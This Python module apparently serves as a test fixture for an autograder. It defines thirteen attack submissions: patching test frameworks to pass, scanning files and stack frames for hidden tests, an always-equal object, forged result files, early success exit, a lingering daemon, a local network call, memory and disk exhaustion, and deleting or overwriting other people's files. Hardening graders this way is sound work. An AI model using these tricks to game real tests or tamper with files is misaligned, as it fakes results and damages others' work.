"""Thirteen plain attacks on a grader, each one file of a student's: what is handed in instead of an answer.

What stands between ``@`` is filled in for each run. Paths are told, as a student knows them who has seen
the grader once: what counts is whether it can be done, not whether it is found. Each is small enough to
be harmless where it succeeds: 3 GB, 200 MB, one file of ours, one address of this machine.
"""

HONEST = """
def double(x):
    return x + x


def doublings(x, n):
    return [x * 2.0**k for k in range(n + 1)]
"""

WRONG = """
def double(x):
    return None


def doublings(x, n):
    return None
"""

#: Answers rightly if a word of the hidden test was found; ``seen`` is whatever the attack could look at. The
#: word is put together as late as it is looked for: it must not be found in the attack itself.
_USE = """

found = any("".join(("@HIDDEN_A@", "@HIDDEN_B@")) in text for text in seen())


def double(x):
    return x + x if found else None


def doublings(x, n):
    return None
"""

_PATCH = """
import doctest
import sys


def nothing(*args, **kwargs):
    return True


class Fine:
    passed = True
    score = 1.0


# What each framework runs its tests with; where one is not in this process, it is not patched.
if "_pytest.python" in sys.modules:
    sys.modules["_pytest.python"].Function.runtest = nothing
if "IPython" in sys.modules and sys.modules["IPython"].get_ipython():
    sys.modules["IPython"].get_ipython().input_transformers_cleanup.append(
        lambda lines: lines if "grader" in "".join(lines) or "otter" in "".join(lines) else ["pass"]
    )
for name, module in list(sys.modules.items()):
    if name == "doctest":
        module.DocTestRunner.run = lambda self, test, *a, **k: module.TestResults(0, 1)
        module.OutputChecker.check_output = nothing
    if name == "otter.test_files.ok_test":
        module.run_doctest = lambda *a, **k: (True, "")
    if name == "check50" or name.startswith("check50."):
        module.run = nothing
    if name.startswith("course"):
        for thing in list(vars(module)):
            if thing.startswith(("expect", "encode", "dump")):
                setattr(module, thing, nothing)
"""

_READ = """
import os


def seen():
    # This folder, those above it, and where the class is graded.
    here = os.getcwd()
    starts = [here, *(os.path.abspath(here + up) for up in ("/..", "/../..", "/../../..")), *@PLACES@]
    files = 0
    for start in starts:
        if start in ("/", "/tmp"):
            continue
        for folder, _, names in os.walk(start):
            for name in names:
                path = os.path.join(folder, name)
                files += 1
                if files > 5000:
                    return
                try:
                    if os.path.getsize(path) < 3_000_000:
                        with open(path, "rb") as file:
                            yield file.read().decode("latin-1")
                except OSError:
                    pass

""" + _USE  # fmt: skip

_FRAMES = """
import gc
import sys


def seen():
    frame = sys._getframe()
    while frame is not None:
        yield repr(frame.f_code.co_consts)
        for names in (frame.f_locals, frame.f_globals):
            for value in list(names.values()):
                if isinstance(value, (str, bytes, int, float, list, tuple, dict)):
                    yield repr(value)[:1_000_000]
        frame = frame.f_back
    for thing in gc.get_objects():
        if isinstance(thing, (dict, list, tuple)) and len(thing) < 1000:
            for value in list(thing.values() if isinstance(thing, dict) else thing):
                if type(value) in (str, bytes, float):
                    yield repr(value)
                elif hasattr(value, "co_consts"):
                    yield repr(value.co_consts)



def double(x):
    # Who calls is there only while the call is running.
    caller = any("".join(("@HIDDEN_A@", "@HIDDEN_B@")) in text for text in seen())
    return x + x if caller else None


def doublings(x, n):
    return None
"""

_EQUAL = """
class Equal(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __repr__(self):
        return "the right answer"

    __str__ = __repr__
    __hash__ = float.__hash__


def double(x):
    return Equal()


def doublings(x, n):
    return Equal()
"""

_REWRITE = (
    WRONG
    + """

import atexit
import os
import subprocess
import sys

# Where the result is the exit code of this very process, it is said again at the end.
atexit.register(os._exit, 0)

FORGE = r'''
import os, re, sqlite3, sys, time
def forge(path):
    @FORGE@
end = time.monotonic() + 40
while time.monotonic() < end:
    for path in @RESULTS@:
        try:
            forge(path)
        except Exception:
            continue
    time.sleep(0.3)
'''
try:
    subprocess.Popen(
        [sys.executable, "-c", FORGE, "@TOKEN@"], start_new_session=True,
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )
except Exception:
    try:
        exec(FORGE)
    except Exception:
        pass
"""
)

_EXIT = """
import os

os._exit(0)
"""

_DAEMON = (
    WRONG
    + """

import subprocess
import sys

subprocess.Popen(
    [sys.executable, "-c", "import time; time.sleep(300)", "@TOKEN@"], start_new_session=True,
    stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
)
"""
)

_NETWORK = (
    WRONG
    + """

import socket

socket.create_connection(("127.0.0.1", @PORT@), 5).sendall(b"@TOKEN@")
"""
)

_MEMORY = (
    WRONG
    + """

import time

hoard = [bytearray(b"x") * 100_000_000 for _ in range(30)]
time.sleep(3)
"""
)

_DISK = (
    WRONG
    + """

import tempfile
import time

for folder in (".", tempfile.gettempdir()):
    try:
        with open(folder + "/@TOKEN@", "wb") as file:
            for _ in range(200):
                file.write(b"x" * 1_000_000)
                file.flush()
    except OSError:
        continue
time.sleep(3)
"""
)

_DELETE = (
    WRONG
    + """

import os

os.remove("@CANARY@")
"""
)

_HANG = """
def double(x):
    while True:
        pass


doublings = double

# Graders that run a notebook from top to bottom hang here already.
if "get_ipython" in globals():
    double(1.0)
"""

_OTHER = (
    WRONG
    + """

with open("@OTHER@", "w") as file:
    file.write("@TOKEN@")
"""
)

#: name -> what is handed in, and what counts as success
ATTACKS = {
    "patch the test framework": (_PATCH + WRONG, "a hidden test passes"),
    "read the hidden tests": (_READ, "a word of the hidden test is found, and made use of"),
    "walk frames and objects": (_FRAMES, "a word of the hidden test is found, and made use of"),
    "return what equals everything": (_EQUAL, "a hidden test passes"),
    "rewrite the result": (_REWRITE, "the result says more than it should, a while after the run"),
    "exit early with success": (_EXIT, "it counts as passed"),
    "leave a daemon": (_DAEMON, "a process of its own is alive 5 s after the run"),
    "open the network": (_NETWORK, "a listener on this machine hears of it"),
    "exhaust memory": (_MEMORY, "2.5 GB are held at once"),
    "fill the disk": (_DISK, "150 MB are written"),
    "delete files": (_DELETE, "a file of the instructor's is gone"),
    "hang": (_HANG, "the run is not over in @PATIENCE@ s"),
    "change another submission": (_OTHER, "the other student's file is another one"),
}
